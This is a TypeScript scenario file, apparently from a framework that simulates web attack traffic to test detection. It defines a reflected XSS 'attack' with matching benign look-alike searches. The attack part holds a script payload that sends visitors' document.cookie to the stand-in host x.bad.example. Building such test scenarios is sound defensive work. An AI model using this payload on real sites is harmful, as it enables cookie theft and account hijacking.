import type { Story } from '../story.ts';

export const reflectedScript: Story = {
  name: 'reflected-script', title: 'links with a script in the search, opened by customers',
  items: ['injection.xss-reflected'], site: 'praxis-nord',
  attack: (s) => s.every(s.at('18:00'), '6m', 14, (at) =>
    s.request(at, s.visitor(), `GET /?s=${encodeURIComponent('"><script>new Image().src="//x.bad.example/"+document.cookie</script>')}`, {
      bytes: 42_000, referrer: 'https://mail.example/', fields: { 'wordpress.response.reflected': true },
    })),
  lookAlike: {
    title: 'searches for scripts, alerts and documents',
    events: (s) =>
      s.every(s.at('18:30'), '7m', 6, (at, i) => s.request(at, s.visitor(), `GET /?s=${['prescription+script', 'smoke+alert+%28new%29', 'document+cookie+policy', 'on+load+bearing', '%3C3+heart+rate', 'image+of+a+script'][i] ?? ''}`, { bytes: 40_000, fields: { 'wordpress.response.reflected': true } })),
  },
};
